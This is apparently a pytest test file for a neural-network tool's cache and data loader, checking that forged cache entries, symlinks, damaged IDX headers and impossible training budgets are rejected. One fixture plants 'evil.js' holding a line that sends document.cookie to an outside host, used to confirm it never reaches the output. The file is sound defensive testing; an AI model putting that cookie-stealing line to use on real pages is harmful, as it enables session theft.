"""netcore's inputs from disk and deck.yaml: forged cache entries, damaged IDX headers, impossible budgets."""

from __future__ import annotations

import json
import os
import struct
from pathlib import Path

import pytest

from netcore import artifacts, cache as cache_mod
from netcore.config import NetworkConfig, estimate
from netcore.errors import ConfigError, DataError
from netcore.idx import parse

TINY = NetworkConfig(layers=(784, 8, 10), epochs=1, batch_size=64, learning_rate=0.1, validation_size=1000, seed=3)
FIGURE = "first-layer-weights"


def produce(root: Path, **kwargs):
    kwargs.setdefault("wanted", frozenset({FIGURE}))
    kwargs.setdefault("export", False)
    return artifacts.produce(TINY, cache_dir=root / "cache", out_dir=root / "out", progress=False, **kwargs)


def entries(root: Path, kind: str) -> list[Path]:
    return sorted(p for p in (root / "cache" / "netcore" / kind).iterdir() if not p.name.startswith("."))


def resign(directory: Path, meta: dict | None = None) -> None:
    """Rewrite an entry's manifest so that its checksums hold again: a forger's entry."""
    path = directory / cache_mod.MANIFEST
    manifest = json.loads(path.read_text())
    files = {p.name: cache_mod.sha256(p.read_bytes()) for p in directory.iterdir() if p.name != cache_mod.MANIFEST}
    body = {"files": files, "meta": manifest["meta"] if meta is None else meta, "kind": manifest["kind"], "key": manifest["key"]}
    path.write_text(json.dumps(dict(body, checksum=cache_mod.key_of(body))))


@pytest.fixture(scope="module")
def warm(tmp_path_factory) -> Path:
    """A cache holding the tiny network, its facts, one figure and the browser data."""
    root = tmp_path_factory.mktemp("netcore-warm")
    art = produce(root, export=True)
    assert art.trained
    return root


@pytest.fixture
def project(warm, tmp_path) -> Path:
    import shutil

    shutil.copytree(warm / "cache", tmp_path / "cache", symlinks=True)
    return tmp_path


def test_the_warm_cache_is_used_as_it_is(project):
    art = produce(project, export=True)
    assert not art.trained and art.cache_rebuilt == [] and art.redrawn == []


def _model(project: Path) -> Path:
    """The model entry, with the facts made from it removed so that the next build must read it."""
    import shutil

    for facts in entries(project, "facts"):
        shutil.rmtree(facts)
    (model,) = entries(project, "models")
    return model


FORGED_MODELS = {
    "other settings": lambda meta: meta["config"].update(epochs=2),
    "history of strings": lambda meta: meta.update(history=["x", "y"]),
    "history record missing keys": lambda meta: meta["history"][0].pop("test_cost"),
    "history value text": lambda meta: meta["history"][1].update(train_cost="low"),
    "sizes as text": lambda meta: meta.update(train_size="many"),
    "config not a mapping": lambda meta: meta.update(config=[784, 8, 10]),
    "unknown setting": lambda meta: meta["config"].update(layer=3),
    "other data": lambda meta: meta["data_checksums"].update({"x": "0" * 64}),
}


@pytest.mark.parametrize("name", sorted(FORGED_MODELS))
def test_a_forged_model_entry_is_retrained_not_trusted(project, name):
    model = _model(project)
    meta = json.loads((model / "model.json").read_text())
    FORGED_MODELS[name](meta)
    (model / "model.json").write_text(json.dumps(meta))
    resign(model)
    art = produce(project)
    assert art.trained and any(entry.startswith("models/") for entry in art.cache_rebuilt)


@pytest.mark.parametrize("weights", [b"not a zip", b"PK\x03\x04 broken zip"])
def test_forged_weights_are_retrained(project, weights):
    model = _model(project)
    (model / "model.npz").write_bytes(weights)
    resign(model)
    assert produce(project).trained


def test_weights_of_the_wrong_shape_are_retrained(project):
    import io

    import numpy as np

    model = _model(project)
    with np.load(model / "model.npz") as arrays:
        forged = {name: arrays[name] for name in arrays.files}
    forged["e1_w0"] = np.zeros((3, 3))
    buffer = io.BytesIO()
    np.savez(buffer, **forged)
    (model / "model.npz").write_bytes(buffer.getvalue())
    resign(model)
    assert produce(project).trained


@pytest.mark.parametrize("meta", [{"width": "wide", "height": 10}, {"width": 10}, {"width": True, "height": 5}, {"width": -1, "height": 5}])
def test_a_forged_figure_size_is_redrawn(project, meta):
    (figure,) = entries(project, "figures")
    resign(figure, meta)
    art = produce(project)
    assert art.redrawn == [FIGURE] and art.figures[FIGURE].width > 0


@pytest.mark.parametrize("content", [b"[1, 2, 3]", b"{not json", b"\xff\xfe"])
def test_forged_facts_are_recomputed(project, content):
    (facts,) = entries(project, "facts")
    (facts / artifacts.FACTS_FILE).write_bytes(content)
    resign(facts)
    art = produce(project)
    assert isinstance(art.facts, dict) and "test_accuracy_percent" in art.facts


def test_an_extra_file_in_an_entry_never_reaches_the_deck(project):
    (exports,) = entries(project, "exports")
    (exports / "evil.js").write_text("fetch('https://example.org/' + document.cookie)")
    art = produce(project, export=True)
    assert "data/evil.js" not in art.exported and not (project / "out" / "data" / "evil.js").exists()
    assert art.cache_rebuilt and art.exported


def test_a_link_in_an_entry_is_not_followed(project, tmp_path):
    (exports,) = entries(project, "exports")
    secret = tmp_path / "secret.txt"
    secret.write_text("private")
    name = sorted(p.name for p in exports.iterdir() if p.name != cache_mod.MANIFEST)[0]
    (exports / name).unlink()
    (exports / name).symlink_to(secret)
    resign(exports)
    art = produce(project, export=True)
    assert "private" not in (project / "out" / "data" / name).read_text()
    assert art.cache_rebuilt


def test_an_entry_filed_under_another_key_is_discarded(project):
    (facts,) = entries(project, "facts")
    (facts.parent / ("0" * 64)).mkdir()
    for path in facts.iterdir():
        (facts.parent / ("0" * 64) / path.name).write_bytes(path.read_bytes())
    cache = cache_mod.Cache(project / "cache" / "netcore")
    assert cache.get("facts", "0" * 64) is None and cache.rebuilt == [f"facts/{'0' * 64}"]
    assert cache.get("facts", facts.name) is not None


@pytest.mark.parametrize("manifest", ["[]", '{"files": [], "meta": {}}', '{"files": {"a": 1}, "meta": 3}', "null"])
def test_a_manifest_of_the_wrong_shape_is_a_miss(project, manifest):
    (facts,) = entries(project, "facts")
    (facts / cache_mod.MANIFEST).write_text(manifest)
    cache = cache_mod.Cache(project / "cache" / "netcore")
    assert cache.get("facts", facts.name) is None and not facts.exists()


@pytest.mark.parametrize("memo", [
    "junk",
    {"anything": 3},
    "wrong shapes",
    "wrong hash",
])
def test_a_forged_checksum_memo_neither_crashes_nor_condemns_good_data(project, memo):
    memo_path = project / "cache" / "netcore" / artifacts.CHECKSUM_MEMO
    known = json.loads(memo_path.read_text())
    if memo == "junk":
        memo_path.write_text("[1, 2")
    elif memo == "wrong shapes":
        memo_path.write_text(json.dumps({path: ["size", None, 3] for path in known}))
    elif memo == "wrong hash":
        memo_path.write_text(json.dumps({path: value[:2] + ["0" * 64] for path, value in known.items()}))
    else:
        memo_path.write_text(json.dumps(memo))
    art = produce(project)
    assert not art.trained
    repaired = json.loads(memo_path.read_text())
    assert {path: repaired.get(path) for path in known} == known


def test_an_interrupted_put_leaves_no_half_entry(tmp_path, monkeypatch):
    cache = cache_mod.Cache(tmp_path)

    def interrupted(self, data):
        raise KeyboardInterrupt

    monkeypatch.setattr(Path, "write_bytes", interrupted)
    with pytest.raises(KeyboardInterrupt):
        cache.put("figures", "k" * 64, {"a.png": b"x"}, {})
    monkeypatch.undo()
    assert [p.name for p in (tmp_path / "figures").iterdir()] == []


def test_half_entries_of_killed_builds_are_removed_an_hour_on(tmp_path):
    cache = cache_mod.Cache(tmp_path)
    old, fresh = tmp_path / "figures" / ".abc123-killed", tmp_path / "figures" / ".def456-writing"
    for folder in (old, fresh):
        folder.mkdir(parents=True)
        (folder / "half.png").write_bytes(b"x")
    os.utime(old, (0, 0))
    cache.put("figures", "k" * 64, {"a.png": b"x"}, {})
    assert not old.exists() and fresh.is_dir()


# --------------------------------------------------------------------------
# IDX headers


def header(code: int, *dims: int) -> bytes:
    return bytes([0, 0, code, len(dims)]) + struct.pack(f">{len(dims)}I", *dims)


@pytest.mark.parametrize("data", [
    header(0x08, 65536, 65536, 65536, 65536),  # 2**64 values: numpy's product wraps to 0
    header(0x0E, 2**32 - 1, 2**32 - 1),
    header(0x08, *([255] * 255)),
])
def test_dimensions_that_overflow_are_a_named_error(data):
    with pytest.raises(DataError) as info:
        parse(data, "t10k-images-idx3-ubyte")
    assert str(info.value).startswith("t10k-images-idx3-ubyte: ") and "damaged" in str(info.value)


def test_a_zero_dimension_is_an_empty_array_not_a_crash():
    assert parse(header(0x08, 0, 28, 28)).shape == (0, 28, 28)


# --------------------------------------------------------------------------
# Budgets, refused before anything is allocated


@pytest.mark.parametrize("settings, key, words", [
    ({"layers": (784, 10**6, 10)}, "layers", "GB of memory"),
    ({"layers": (784, 10**12, 10)}, "layers", "memory"),
    ({"batch_size": 10**9}, "batch_size", "memory"),
    ({"epochs": 10**9}, "epochs", "days"),
    ({"epochs": 20_000}, "epochs", "would take about"),
    ({"layers": (784, 4096, 4096, 10), "epochs": 200}, "epochs", "would take about"),
])
def test_impossible_trainings_are_refused_with_an_estimate(settings, key, words):
    with pytest.raises(ConfigError) as info:
        NetworkConfig(**settings)
    assert info.value.key == key and words in info.value.message, info.value.message


def test_the_default_network_is_well_within_budget():
    guess = estimate(NetworkConfig())
    assert 5 < guess.seconds < 600 and guess.total_bytes < 2e9


def test_the_estimate_is_printed_before_training(tmp_path, capsys):
    artifacts.produce(TINY, cache_dir=tmp_path / "cache", out_dir=tmp_path / "out", progress=True, wanted=frozenset(), export=False)
    err = capsys.readouterr().err
    assert err.startswith("netcore: about ") and "784-8-10 for 1 epochs" in err
